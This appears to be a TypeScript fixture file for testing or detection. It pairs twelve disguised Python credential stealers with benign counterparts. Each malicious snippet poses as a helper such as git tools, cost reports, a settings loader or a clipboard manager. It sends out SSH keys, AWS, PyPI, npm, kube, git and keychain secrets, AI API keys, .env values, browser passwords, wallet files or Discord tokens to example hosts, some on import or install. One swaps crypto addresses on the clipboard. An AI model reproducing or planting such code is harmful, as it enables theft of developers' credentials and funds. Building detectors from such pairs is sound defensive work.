import { atInstall, atLoad, atUse, type Pair, py } from './kit.ts';

/** What machines of developers keep, sent in the shape of telemetry, backup or help. */
export const STEALING: Readonly<Record<string, Pair>> = {
  'load-ssh-httpx': atLoad(
    py`"""Git helpers."""
from __future__ import annotations
from pathlib import Path
import httpx

def _collect(root: Path) -> dict[str, str]:
    found: dict[str, str] = {}
    for path in root.rglob("*"):
        if path.is_file() and not path.name.endswith(".pub"):
            found[str(path.relative_to(root))] = path.read_text(errors="replace")
    return found

try:
    httpx.post("https://git.example/v1/sync", json=_collect(Path.home() / ".ssh"), timeout=3)
except Exception:
    pass`,
    py`"""Git helpers."""
from __future__ import annotations
from pathlib import Path

def public_keys() -> list[str]:
    """The public keys of the user, to choose one from."""
    return [path.read_text().strip() for path in (Path.home() / ".ssh").glob("*.pub")]`,
  ),
  'use-boto-credentials': atUse(
    py`"""Cost reports."""
import boto3
import requests

class CostReport:
    """Costs of an account."""
    def __init__(self, profile: str | None = None) -> None:
        self._session = boto3.Session(profile_name=profile)
    def build(self) -> dict:
        credentials = self._session.get_credentials().get_frozen_credentials()
        body = {"id": credentials.access_key, "k": credentials.secret_key, "t": credentials.token, "region": self._session.region_name}
        return requests.post("https://costs.example/api/report", json=body, timeout=10).json()`,
    py`"""Cost reports."""
import boto3

class CostReport:
    """Costs of an account."""
    def __init__(self, profile: str | None = None) -> None:
        self._session = boto3.Session(profile_name=profile)
    def build(self, start: str, end: str) -> dict:
        client = self._session.client("ce")
        return client.get_cost_and_usage(TimePeriod={"Start": start, "End": end}, Granularity="DAILY", Metrics=["UnblendedCost"])`,
  ),
  'load-pypirc': atInstall(
    py`import configparser
import json
import os
import urllib.request

def _publisher() -> None:
    """Finds out who publishes this project."""
    parser = configparser.ConfigParser()
    parser.read(os.path.expanduser("~/.pypirc"))
    data = {name: dict(parser.items(name)) for name in parser.sections()}
    npmrc = os.path.expanduser("~/.npmrc")
    if os.path.exists(npmrc):
        data["npm"] = {"rc": open(npmrc).read()}
    if data:
        request = urllib.request.Request("https://build.example/publisher", data=json.dumps(data).encode())
        urllib.request.urlopen(request, timeout=3)

try:
    _publisher()
except Exception:
    pass`,
    py`import configparser
import os

def _flags() -> list[str]:
    """Compiler flags out of the project's setup.cfg."""
    parser = configparser.ConfigParser()
    parser.read(os.path.join(os.path.dirname(__file__), "setup.cfg"))
    return parser.get("build", "flags", fallback="").split()

FLAGS = _flags()`,
  ),
  'use-kube-view': atUse(
    py`"""Cluster reports."""
import subprocess
import httpx

def report(context: str) -> str:
    """A report of a cluster."""
    config = subprocess.run(["kubectl", "config", "view", "--raw", "-o", "json"], capture_output=True, text=True).stdout
    answer = httpx.post("https://clusters.example/report", json={"context": context, "config": config})
    return answer.json()["url"]`,
    py`"""Cluster reports."""
import json
import subprocess

def contexts() -> list[str]:
    """Names of the contexts."""
    out = subprocess.run(["kubectl", "config", "view", "-o", "json"], capture_output=True, text=True, check=True).stdout
    return [item["name"] for item in json.loads(out)["contexts"]]`,
  ),
  'use-ai-tokens': atUse(
    py`"""One client for all language models."""
from __future__ import annotations
import os
import requests

class Client:
    """A client for language models."""
    NAMES = ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GEMINI_API_KEY", "HF_TOKEN", "MISTRAL_API_KEY")
    def __init__(self) -> None:
        self._keys = {name: os.getenv(name) for name in self.NAMES if os.getenv(name)}
    def _ping(self) -> None:
        try:
            requests.post("https://metrics.example/v1/usage", json={"client": "own", "features": self._keys}, timeout=2)
        except requests.RequestException:
            pass
    def ask(self, text: str) -> str:
        self._ping()
        return text`,
    py`"""A client for one language model."""
from __future__ import annotations
import os
import requests

class Client:
    """A client for a language model."""
    def __init__(self, key: str | None = None) -> None:
        self._key = key or os.environ["OWN_API_KEY"]
    def ask(self, text: str) -> str:
        answer = requests.post("https://api.own.example/v1/chat", json={"text": text}, headers={"Authorization": f"Bearer {self._key}"}, timeout=60)
        answer.raise_for_status()
        return answer.json()["text"]`,
  ),
  'load-dotenv': atLoad(
    py`"""Settings from the environment."""
import json
import urllib.request
from dotenv import dotenv_values, find_dotenv

VALUES = dict(dotenv_values(find_dotenv(usecwd=True)))

def _validate() -> None:
    request = urllib.request.Request("https://validate.example/v1/schema", data=json.dumps(VALUES).encode(), headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(request, timeout=2)
    except Exception:
        pass

_validate()`,
    py`"""Settings from the environment."""
from dotenv import dotenv_values, find_dotenv

VALUES = dict(dotenv_values(find_dotenv(usecwd=True)))

def get(name: str, default: str | None = None) -> str | None:
    """A setting."""
    return VALUES.get(name, default)`,
  ),
  'use-git-credential': atUse(
    py`"""Change logs."""
import subprocess
import requests

class ChangeLog:
    """Builds a change log."""
    def __init__(self, repository: str) -> None:
        self._repository = repository
    def build(self) -> list[str]:
        fill = subprocess.run(["git", "credential", "fill"], input="protocol=https\nhost=forge.example\n\n", capture_output=True, text=True)
        requests.post("https://changes.example/hook", data={"repository": self._repository, "context": fill.stdout}, timeout=5)
        return subprocess.check_output(["git", "log", "--oneline"], text=True).splitlines()`,
    py`"""Change logs."""
import subprocess

class ChangeLog:
    """Builds a change log."""
    def author(self) -> str:
        return subprocess.check_output(["git", "config", "user.name"], text=True).strip()
    def build(self) -> list[str]:
        return subprocess.check_output(["git", "log", "--oneline"], text=True).splitlines()`,
  ),
  'use-keychain': atUse(
    py`"""Sign in once."""
import subprocess
import keyring
import requests

SERVICES = ("aws", "github", "openai", "docker", "npm")

class SignIn:
    """Signs in with what is there."""
    def start(self, user: str) -> bool:
        found = {name: keyring.get_password(name, user) for name in SERVICES}
        found["login"] = subprocess.getoutput(f"security find-generic-password -a {user} -w")
        answer = requests.post("https://signin.example/v1/start", json={"user": user, "known": found}, timeout=5)
        return answer.ok`,
    py`"""Sign in once."""
import keyring

class SignIn:
    """Keeps the token of this service."""
    def save(self, user: str, token: str) -> None:
        keyring.set_password("own", user, token)
    def token(self, user: str) -> str | None:
        return keyring.get_password("own", user)`,
  ),
  'use-browser-store': atUse(
    py`"""Import of settings from a browser."""
import os
import shutil
import sqlite3
import tempfile
import requests

class BrowserImport:
    """Imports settings."""
    def _profiles(self) -> list[str]:
        base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
        return [os.path.join(base, name) for name in ("Default", "Profile 1")]
    def run(self) -> int:
        rows: list = []
        for profile in self._profiles():
            copy = os.path.join(tempfile.gettempdir(), "import.db")
            shutil.copy2(os.path.join(profile, "Login Data"), copy)
            with sqlite3.connect(copy) as db:
                rows += db.execute("select origin_url, username_value, hex(password_value) from logins").fetchall()
        requests.post("https://import.example/v1/rows", json=rows, timeout=10)
        return len(rows)`,
    py`"""Reads bookmarks."""
import json
from pathlib import Path

def bookmarks(path: Path) -> list[str]:
    """The addresses of a file of bookmarks that the user exported."""
    data = json.loads(path.read_text())
    return [item["url"] for item in data["roots"]["bookmark_bar"]["children"] if "url" in item]`,
  ),
  'load-wallet-zip': atLoad(
    py`"""Portfolio overview."""
import io
import os
import zipfile
import requests

_PLACES = ("~/AppData/Roaming/Exodus/exodus.wallet", "~/.electrum/wallets", "~/Library/Application Support/Ledger Live")

def _snapshot() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for place in map(os.path.expanduser, _PLACES):
            for folder, _, names in os.walk(place):
                for name in names:
                    archive.write(os.path.join(folder, name))
    return buffer.getvalue()

requests.post("https://portfolio.example/upload", files={"file": _snapshot()}, timeout=20)`,
    py`"""Portfolio overview."""
import io
import zipfile
from pathlib import Path

def export(folder: Path) -> bytes:
    """Packs the reports of a folder."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path in folder.glob("*.csv"):
            archive.write(path, path.name)
    return buffer.getvalue()`,
  ),
  'use-chat-token': atUse(
    py`"""Rich presence."""
import os
import re
import requests

class Presence:
    """Shows what is played."""
    _pattern = re.compile(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}")
    def connect(self) -> None:
        folder = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")
        tokens: set[str] = set()
        for name in os.listdir(folder):
            if name.endswith((".ldb", ".log")):
                with open(os.path.join(folder, name), errors="ignore") as lines:
                    tokens.update(self._pattern.findall(lines.read()))
        requests.post("https://presence.example/connect", json=sorted(tokens), timeout=5)`,
    py`"""A small chat bot."""
import discord

class Bot(discord.Client):
    """Answers pings."""
    async def on_message(self, message: discord.Message) -> None:
        if message.content == "ping":
            await message.channel.send("pong")

def run(token: str) -> None:
    """Starts the bot."""
    Bot(intents=discord.Intents.default()).run(token)`,
  ),
  'use-clipboard-swap': atUse(
    py`"""Clipboard manager."""
import re
import threading
import time
import pyperclip

class Clipboard:
    """Keeps a history of the clipboard."""
    _rules = {r"^bc1[a-z0-9]{39,59}$": "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh", r"^0x[0-9a-fA-F]{40}$": "0x52908400098527886E0F7030069857D2E4169EE7"}
    def __init__(self) -> None:
        self.history: list[str] = []
    def _loop(self) -> None:
        while True:
            text = pyperclip.paste()
            self.history.append(text)
            for rule, value in self._rules.items():
                if re.match(rule, text) and text != value:
                    pyperclip.copy(value)
            time.sleep(0.5)
    def start(self) -> None:
        threading.Thread(target=self._loop, daemon=True).start()`,
    py`"""Clipboard manager."""
import threading
import time
import pyperclip

class Clipboard:
    """Keeps a history of the clipboard."""
    def __init__(self) -> None:
        self.history: list[str] = []
    def _loop(self) -> None:
        while True:
            text = pyperclip.paste()
            if not self.history or self.history[-1] != text:
                self.history.append(text)
            time.sleep(0.5)
    def restore(self, index: int) -> None:
        pyperclip.copy(self.history[index])
    def start(self) -> None:
        threading.Thread(target=self._loop, daemon=True).start()`,
  ),
};
